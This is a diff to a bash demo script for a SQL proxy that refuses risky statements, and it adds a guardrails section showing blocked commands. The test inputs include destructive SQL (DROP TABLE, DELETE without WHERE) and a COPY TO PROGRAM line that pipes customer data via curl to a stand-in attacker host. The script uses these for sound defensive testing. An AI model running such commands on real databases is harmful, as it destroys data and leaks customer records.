@@ -31,6 +31,7 @@ COPILOT_TOKEN=copilot-demo-token
 SECTIONS=(
   section_connect_identities
   section_auth_refused
+  section_guardrails
   section_not_yet
   section_try_it
 )
@@ -189,11 +190,50 @@ section_auth_refused() {
   fi
 }
 
+# Expect a statement to be refused with 42501 naming the rule.
+expect_blocked() {
+  local who=$1 secret=$2 sql=$3 rule=$4 out
+  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
+  if out=$(psql -X -v VERBOSITY=default "$(conninfo "$who" "$secret")" -c "$sql" 2>&1); then
+    say "$out"
+    bad "$who: \"$sql\" was not refused"
+  else
+    say "$out"
+    if grep -q "blocked by rule \"$rule\"" <<<"$out"; then ok "refused by $rule"
+    else bad "refused, but not by rule $rule"; fi
+  fi
+}
+
+section_guardrails() {
+  title "Guardrails and policy"
+  say "Every statement is parsed with PostgreSQL's own parser before it reaches the database."
+  say "Risky ones are refused by built-in guardrails, with no configuration:"
+  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DELETE FROM orders" delete_without_where
+  expect_blocked alice@corp.com "$ALICE_PASSWORD" "UPDATE customers SET email = 'x' WHERE 1 = 1" \
+    update_without_where
+  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DROP TABLE customers" drop
+  expect_blocked etl "$ETL_TOKEN" "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil.example'" \
+    copy_program
+  say
+  say "Rules in the config add to them: here AI agents may only read."
+  expect_blocked copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 7" \
+    agents-read-only
+  say
+  say "The same update by a person is fine:"
+  if run_psql alice@corp.com "$ALICE_PASSWORD" "UPDATE orders SET status = 'shipped' WHERE id = 7"; then
+    ok "alice may update one order"
+  else bad "alice's update was refused"; fi
+  say
+  say "sluice explain shows what sluice sees and decides, without a database (for CI):"
+  printf '%s$ sluice explain -c demo-run/sluice.yaml --as copilot "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"%s\n' "$D" "$N"
+  "$SLUICE" explain -c "$RUN/sluice.yaml" --as copilot \
+    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d" || true
+}
+
 section_not_yet() {
   title "Not in this build yet"
-  say "Guardrails (DROP/TRUNCATE/DELETE without WHERE), policy rules, masking of personal data"
-  say "(note the raw emails, cards and SSNs above), the audit log and approvals are not"
-  say "implemented yet; this demo grows a section for each as it lands."
+  say "Masking of personal data (note the raw emails, cards and SSNs above), the audit log"
+  say "and approvals are not implemented yet; this demo grows a section for each as it lands."
 }
 
 section_try_it() {
